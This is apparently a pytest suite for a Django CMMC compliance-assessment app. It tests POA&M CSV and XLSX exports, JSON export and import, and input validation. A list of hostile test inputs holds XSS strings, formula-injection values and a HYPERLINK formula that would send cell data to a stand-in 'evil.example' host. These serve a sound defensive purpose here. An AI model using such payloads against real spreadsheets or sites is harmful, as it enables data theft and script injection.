import csv
import io
import json
from datetime import date, datetime

import openpyxl
import pytest

from assessments import exports, scoring
from assessments.models import Answer, Assessment, ObjectiveAnswer, score_assessment
from controls.models import Objective, Requirement, catalog_revision

pytestmark = pytest.mark.django_db

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\0")
HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "{{7*7}}",
    "{% raw %}",
    "]]>",
    "\u202eexe.txt",
    "emoji \U0001f600\U0001f4a5",
    "x" * 10_000,
    "vt\x0bhere",
    "\x1b[31mred",
    "bad\ufffechar",
    "\x0b=1",
    "plain text",
]
# PostgreSQL cannot store NUL, so this one only goes through the file writers directly.
NUL_FORMULA = "\x00=1"


def make(**fields) -> Assessment:
    return Assessment.objects.create(**({"organization_name": "Acme"} | fields))


def answer(assessment: Assessment, nist_id: str, **values) -> Answer:
    return Answer.objects.create(assessment=assessment, requirement=Requirement.objects.get(nist_id=nist_id),
                                 **values)


def hostile_assessment() -> Assessment:
    """Every hostile payload in every text column of the gap list (stored directly, as the admin could)."""
    assessment = make()
    ids = list(Requirement.objects.order_by("position").values_list("nist_id", flat=True))
    answer(assessment, "3.12.4", status="met")
    for index, payload in enumerate(HOSTILE):
        answer(assessment, ids[index], status="not_met", note=payload, evidence=payload[:500],
               responsible=payload[:200], planned_date=date(2030, 1, 1) if index % 2 else None)
    return assessment


@pytest.mark.parametrize("value", [*HOSTILE, NUL_FORMULA])
def test_neutralise_quotes_exactly_the_values_a_spreadsheet_would_run(value):
    result = exports.neutralise(value)
    if value.startswith(FORMULA_START):
        assert result == "'" + value
    else:
        assert result == value


def test_neutralise_also_catches_fullwidth_formula_signs():
    assert exports.neutralise("\uff1dSUM(1)") == "'\uff1dSUM(1)"


def test_poam_rows_follow_the_gap_list_and_carry_each_answers_details(django_assert_num_queries):
    assessment = make()
    answer(assessment, "3.12.4", status="met")
    answer(assessment, "3.1.1", status="not_met", responsible="IT lead", planned_date=date(2030, 3, 1),
           note="needs AD cleanup", evidence="AC-1.pdf")
    answer(assessment, "3.5.3", status="partial")
    answer(assessment, "3.13.11", status="partial")
    answer(assessment, "3.1.3", status="not_met")
    answer(assessment, "3.1.20", status="not_met")
    answer(assessment, "3.2.1", status="met")
    answer(assessment, "3.2.2", status="na", justification="no such users")
    # 1-2: catalog rules (objectives, requirements with family); 3: answers for scoring;
    # 4: answer details; 5: requirement ids and titles.
    with django_assert_num_queries(5):
        rows = exports.poam_rows(assessment)
    result = score_assessment(assessment)
    assert [r["requirement"] for r in rows] == [i.rule.nist_id for i in result.gap_list]
    assert "3.2.1" not in [r["requirement"] for r in rows] and "3.2.2" not in [r["requirement"] for r in rows]
    by_id = {r["requirement"]: r for r in rows}
    req = Requirement.objects.get(nist_id="3.1.1")
    assert by_id["3.1.1"] == {
        "requirement": "3.1.1", "cmmc_id": req.cmmc_id, "title": req.cmmc_title, "state": "Not met",
        "points": req.points, "poam_eligible": "no",
        "why_not": next(i for i in result.items if i.rule.nist_id == "3.1.1").blocker_reason,
        "responsible": "IT lead", "planned_date": date(2030, 3, 1), "note": "needs AD cleanup", "evidence": "AC-1.pdf",
    }
    # The two partial states: 3 points each; only 3.13.11's may be on a POA&M.
    assert (by_id["3.5.3"]["points"], by_id["3.5.3"]["poam_eligible"]) == (3, "no")
    assert (by_id["3.13.11"]["points"], by_id["3.13.11"]["poam_eligible"], by_id["3.13.11"]["why_not"]) == (
        3, "yes", "")
    assert by_id["3.5.3"]["state"] == "Partially met"
    assert (by_id["3.1.3"]["poam_eligible"], by_id["3.1.20"]["poam_eligible"]) == ("yes", "no")
    assert "never" in by_id["3.1.20"]["why_not"]
    assert by_id["3.1.2"]["state"] == exports.UNANSWERED_LABEL and by_id["3.1.2"]["responsible"] == ""
    assert sum(r["points"] for r in rows) == scoring.MAX_SCORE - result.score


def test_a_level1_gap_list_has_no_points_and_nothing_poam_eligible():
    assessment = make(target_level="l1")
    level1 = list(Requirement.objects.exclude(level1_id="").order_by("position").values_list("nist_id", flat=True))
    for nist_id in level1[2:]:
        answer(assessment, nist_id, status="met")
    answer(assessment, level1[0], status="not_met", responsible="Bob")
    rows = exports.poam_rows(assessment)
    assert [r["requirement"] for r in rows] == level1[:2]  # catalog order: one not met, one unanswered
    assert {(r["points"], r["poam_eligible"], r["why_not"]) for r in rows} == {(None, "no", exports.LEVEL1_NO_POAM)}
    assert rows[0]["responsible"] == "Bob" and rows[1]["state"] == exports.UNANSWERED_LABEL
    first = list(csv.reader(io.StringIO(exports.to_csv(rows).decode("utf-8-sig"), newline="")))[1]
    assert first[4:6] == ["", "no"]


def test_csv_reads_back_cell_for_cell_with_every_formula_neutralised():
    rows = exports.poam_rows(hostile_assessment())
    body = exports.to_csv(rows)
    assert body.startswith(b"\xef\xbb\xbf")
    parsed = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert parsed[0] == [header for _, header in exports.POAM_COLUMNS]
    assert len(parsed) == len(rows) + 1
    for row, cells in zip(rows, parsed[1:], strict=True):
        for (key, _), cell in zip(exports.POAM_COLUMNS, cells, strict=True):
            value = row[key]
            expected = "" if value is None else value.isoformat() if isinstance(value, date) else str(value)
            if isinstance(value, str) and value.startswith(FORMULA_START):
                expected = "'" + value
            assert cell == expected
            assert not cell.startswith(FORMULA_START)
    text = body.decode("utf-8-sig")
    assert "{{7*7}}" in text
    assert "x" * 10_000 in text and "\x0b" in text and "\U0001f600" in text


def test_xlsx_has_no_formula_cell_and_shows_hostile_text_literally():
    rows = exports.poam_rows(hostile_assessment())
    workbook = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(rows)))
    sheet = workbook["POA&M"]
    cells = list(sheet.iter_rows(min_row=1))
    assert [c.value for c in cells[0]] == [header for _, header in exports.POAM_COLUMNS]
    assert len(cells) == len(rows) + 1
    for row_cells in cells:
        for cell in row_cells:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str):
                assert not cell.value.startswith(FORMULA_START), cell.coordinate
    notes = {sheet.cell(row=i, column=1).value: sheet.cell(row=i, column=10).value for i in range(2, len(rows) + 2)}
    dates = [sheet.cell(row=i, column=9).value for i in range(2, len(rows) + 2)]
    written = set(notes.values())
    assert "'" + '=HYPERLINK("http://evil.example/?"&A1,"click")' in written
    assert {"'+1", "'-2+3", "'@SUM(1)", "'\t=1", "<script>alert(1)</script>", "{{7*7}}", "x" * 10_000} <= written
    # XML cannot carry these characters: they show as U+FFFD instead of breaking the file.
    assert {"vt\ufffdhere", "\ufffd[31mred", "bad\ufffdchar", "\ufffd=1"} <= written
    assert "'\r=1" in written or "'\n=1" in written  # XML may normalise the CR; the quote stays first either way
    assert datetime(2030, 1, 1) in dates and None in dates
    assert all(isinstance(sheet.cell(row=i, column=5).value, int) for i in range(2, len(rows) + 2))


def test_a_nul_led_formula_is_neutralised_in_both_files():
    row = dict.fromkeys((key for key, _ in exports.POAM_COLUMNS), NUL_FORMULA) | {"points": 1, "planned_date": None}
    csv_cells = list(csv.reader(io.StringIO(exports.to_csv([row]).decode("utf-8-sig"), newline="")))[1]
    assert csv_cells[0] == "'" + NUL_FORMULA
    sheet = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx([row]))).active
    assert sheet["A2"].value == "'\ufffd=1" and sheet["A2"].data_type == "s"


def test_an_empty_gap_list_still_makes_valid_files():
    assessment = make()
    for nist_id in Requirement.objects.values_list("nist_id", flat=True):
        answer(assessment, nist_id, status="met")
    rows = exports.poam_rows(assessment)
    assert rows == []
    assert exports.to_csv(rows).decode("utf-8-sig").count("\r\n") == 1
    sheet = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(rows))).active
    assert sheet.max_row == 1


def full_assessment() -> Assessment:
    assessment = make(organization_name="Acme <b>&</b> \u202eSons", target_level="l2", scope="enclave",
                      cage_codes="1ABC2 3DEF4", employee_count=42, objective_mode=True,
                      assessment_date=date(2025, 5, 30), affirming_official="Jane Doe, CEO", ssp_name="=SSP",
                      ssp_version="1.2", ssp_date=date(2025, 5, 1), conditional_status_date=None)
    answer(assessment, "3.12.4", status="met")
    answer(assessment, "3.1.1", status="met", note="=1+1\r\nline 2", evidence="@ev", responsible="-r",
           planned_date=date(2030, 1, 2))
    answer(assessment, "3.5.3", status="partial", justification="")
    answer(assessment, "3.1.12", status="na", justification="no remote access")
    answer(assessment, "3.1.2", status="", note="not decided")
    for objective in Objective.objects.filter(requirement__nist_id__in=["3.1.1", "3.5.3"]):
        ObjectiveAnswer.objects.create(assessment=assessment, objective=objective, status="met")
    # Objective answers without a requirement answer, and one cleared objective.
    ObjectiveAnswer.objects.create(assessment=assessment, objective=Objective.objects.get(objective_id="3.1.3[a]"),
                                   status="not_met")
    ObjectiveAnswer.objects.create(assessment=assessment, objective=Objective.objects.get(objective_id="3.1.3[b]"),
                                   status="")
    return assessment


def test_export_json_is_the_documented_format_without_any_secret(django_assert_num_queries):
    assessment = full_assessment()
    assessment.set_recovery_key()
    # 1: answers; 2: objective answers; 3-4: catalog revision (requirement texts, objective texts).
    with django_assert_num_queries(4):
        data = exports.export_json(assessment)
    assert list(data) == ["format", "version", "exported_at", "catalog_revision", "assessment", "requirements"]
    assert (data["format"], data["version"], data["catalog_revision"]) == (
        "cmmc-ready.assessment", 1, catalog_revision())
    assert data["assessment"]["assessment_date"] == "2025-05-30" and data["assessment"]["employee_count"] == 42
    assert list(data["requirements"]) == ["3.1.1", "3.1.2", "3.1.3", "3.1.12", "3.5.3", "3.12.4"]  # catalog order
    assert data["requirements"]["3.1.1"]["planned_date"] == "2030-01-02"
    assert data["requirements"]["3.1.2"]["status"] is None
    assert data["requirements"]["3.1.3"] == {"status": None, "justification": "", "note": "", "evidence": "",
                                             "responsible": "", "planned_date": None,
                                             "objectives": {"3.1.3[a]": "not_met", "3.1.3[b]": None}}
    assert list(data["requirements"]["3.1.1"]["objectives"]) == sorted(
        data["requirements"]["3.1.1"]["objectives"], key=lambda o: o[-2])
    text = exports.dumps(data).decode()
    for secret in (str(assessment.access_id), assessment.recovery_key_hash, assessment.public_id):
        assert secret not in text


def comparable(data: dict) -> dict:
    return {k: v for k, v in data.items() if k != "exported_at"}


def test_import_makes_a_new_assessment_that_exports_identically():
    original = full_assessment()
    original.set_recovery_key()
    exported = exports.export_json(original)
    copy = exports.import_json(data=json.loads(exports.dumps(exported)))
    assert copy.pk != original.pk
    assert copy.public_id != original.public_id and copy.access_id != original.access_id
    assert copy.recovery_key_hash == "" and copy.organization_id is None  # its key is made when first shown
    assert comparable(exports.export_json(copy)) == comparable(exported)
    assert score_assessment(copy) == score_assessment(original)
    assert Answer.objects.get(assessment=copy, requirement__nist_id="3.1.1").history.count() == 1


def test_the_minimal_form_imports_with_defaults_and_objective_mode_follows_the_objectives():
    copy = exports.import_json(data={"requirements": {"3.1.1": {"status": "met"}, "3.5.3": {"status": "partial"}}})
    assert (copy.organization_name, copy.target_level, copy.scope, copy.objective_mode) == (
        exports.DEFAULT_NAME, "l2", "enterprise", False)
    assert dict(Answer.objects.filter(assessment=copy).values_list("requirement__nist_id", "status")) == {
        "3.1.1": "met", "3.5.3": "partial"}
    by_objective = exports.import_json(data={"requirements": {"3.1.1": {"objectives": {"3.1.1[a]": "met"}}}})
    assert by_objective.objective_mode is True


BAD_DOCUMENTS = [
    ([], "the file: expected an object"),
    ({}, "requirements: missing"),
    ({"requirements": [], }, "requirements: expected an object"),
    ({"requirements": {}, "extra": 1}, 'the file: unknown key "extra"'),
    ({"format": "something.else", "version": 1, "requirements": {}}, "format: expected"),
    ({"format": exports.FORMAT, "requirements": {}}, "version: missing"),
    ({"format": exports.FORMAT, "version": 2, "requirements": {}}, "version: 2 is not supported"),
    ({"version": True, "requirements": {}}, "version: true is not supported"),
    ({"exported_at": 5, "requirements": {}}, "exported_at: expected text"),
    ({"requirements": {"3.99.1": {"status": "met"}}}, 'requirements: unknown requirement id "3.99.1"'),
    ({"requirements": {"3.1.1": "met"}}, 'requirements["3.1.1"]: expected an object'),
    ({"requirements": {"3.1.1": {"status": "maybe"}}}, 'requirements["3.1.1"].status: unknown status "maybe"'),
    ({"requirements": {"3.1.1": {"status": "partial"}}}, 'requirements["3.1.1"]: 3.1.1 has no partial credit'),
    ({"requirements": {"3.12.4": {"status": "partial"}}}, "3.12.4 has no partial credit"),
    ({"assessment": {"objective_mode": True}, "requirements": {"3.1.1": {"status": "partial"}}},
     "3.1.1 has no partial credit"),
    ({"assessment": {"target_level": "l1"}, "requirements": {"3.1.3": {"status": "partial"}}},
     "3.1.3 has no partial credit"),  # refused even where the level does not score it
    ({"requirements": {"3.12.4": {"status": "na"}}}, 'requirements["3.12.4"]: 3.12.4 '),
    ({"requirements": {"3.1.1": {"state": "met"}}}, 'requirements["3.1.1"]: unknown key "state"'),
    ({"requirements": {"3.1.1": {"note": "n" * 5001}}}, "at most 5000 characters allowed, this has 5001"),
    ({"requirements": {"3.1.1": {"note": None}}}, 'requirements["3.1.1"].note: expected text, got null'),
    ({"requirements": {"3.1.1": {"note": "a\x00b"}}}, "contains a NUL character"),
    ({"requirements": {"3.1.1": {"note": "a\ud800b"}}}, "unpaired surrogate"),
    ({"requirements": {"3.1.1": {"planned_date": "2025-02-30"}}}, '"2025-02-30" is not a real date'),
    ({"requirements": {"3.1.1": {"planned_date": "20250201"}}}, "expected a date as YYYY-MM-DD"),
    ({"requirements": {"3.1.1": {"objectives": {"3.1.2[a]": "met"}}}}, "not an objective of 3.1.1"),
    ({"requirements": {"3.1.1": {"objectives": {"3.1.1[a]": "partial"}}}}, 'unknown status "partial"'),
    ({"assessment": {"target_level": "l3"}, "requirements": {}}, 'assessment.target_level: unknown value "l3"'),
    ({"assessment": {"organization_name": "  "}, "requirements": {}}, "organization_name: must not be empty"),
    ({"assessment": {"organization_name": "x" * 201}, "requirements": {}}, "at most 200 characters"),
    ({"assessment": {"employee_count": "12"}, "requirements": {}}, "employee_count: expected a whole number"),
    ({"assessment": {"employee_count": -1}, "requirements": {}}, "employee_count: expected a whole number"),
    ({"assessment": {"objective_mode": "yes"}, "requirements": {}}, "objective_mode: expected true or false"),
    ({"assessment": {"owner": 1}, "requirements": {}}, 'assessment: unknown key "owner"'),
    ({"assessment": {"public_id": "x" * 22}, "requirements": {}}, 'assessment: unknown key "public_id"'),
]


@pytest.mark.parametrize("data, message", BAD_DOCUMENTS)
def test_a_bad_file_is_refused_with_one_line_naming_the_entry_and_nothing_is_written(data, message):
    before = (Assessment.objects.count(), Answer.objects.count())
    with pytest.raises(exports.AssessmentFileError) as caught:
        exports.import_json(data=data)
    assert message in str(caught.value)
    assert "\n" not in str(caught.value) and "\r" not in str(caught.value)
    assert (Assessment.objects.count(), Answer.objects.count()) == before


@pytest.mark.parametrize("raw, message", [
    (b"", "the file is empty"),
    (b"\xff\xfe{}", "not a UTF-8 text file"),
    (b'{"requirements": {', "not valid JSON"),
    (b'{"requirements": {}, "requirements": {}}', 'the key "requirements" appears twice'),
    (b"[" * 100_000 + b"]" * 100_000, "not valid JSON"),
])
def test_read_document_refuses_what_is_not_one_json_document(raw, message):
    with pytest.raises(exports.AssessmentFileError, match=message):
        exports.read_document(raw)


def test_read_document_accepts_a_byte_order_mark():
    assert exports.read_document(b'\xef\xbb\xbf{"requirements": {}}') == {"requirements": {}}


def test_a_failure_half_way_through_an_import_leaves_no_rows(monkeypatch):
    source = full_assessment()
    data = exports.export_json(source)
    before = (Assessment.objects.count(), Answer.objects.count(), ObjectiveAnswer.objects.count())

    def boom(*args, **kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(ObjectiveAnswer.objects, "bulk_create", boom)
    with pytest.raises(RuntimeError):
        exports.import_json(data=data)
    assert (Assessment.objects.count(), Answer.objects.count(), ObjectiveAnswer.objects.count()) == before


def test_the_largest_possible_export_fits_the_upload_limit_and_imports_back():
    # Every text field at its maximum length, made of a character JSON escapes most expensively (\u001b).
    limits = {name: Answer._meta.get_field(name).max_length for name in ("justification", "note", "evidence",
                                                                         "responsible")}
    assessment = make(organization_name="\x1b" * 200, cage_codes="\x1b" * 300, affirming_official="\x1b" * 200,
                      ssp_name="\x1b" * 200, ssp_version="\x1b" * 50)
    Answer.objects.bulk_create([
        Answer(assessment=assessment, requirement=req, status="not_met",
               **{name: "\x1b" * length for name, length in limits.items()})
        for req in Requirement.objects.all()
    ])
    body = exports.dumps(exports.export_json(assessment))
    assert len(body) <= exports.MAX_FILE_BYTES
    copy = exports.import_json(data=exports.read_document(body))
    assert comparable(exports.export_json(copy)) == comparable(exports.export_json(assessment))
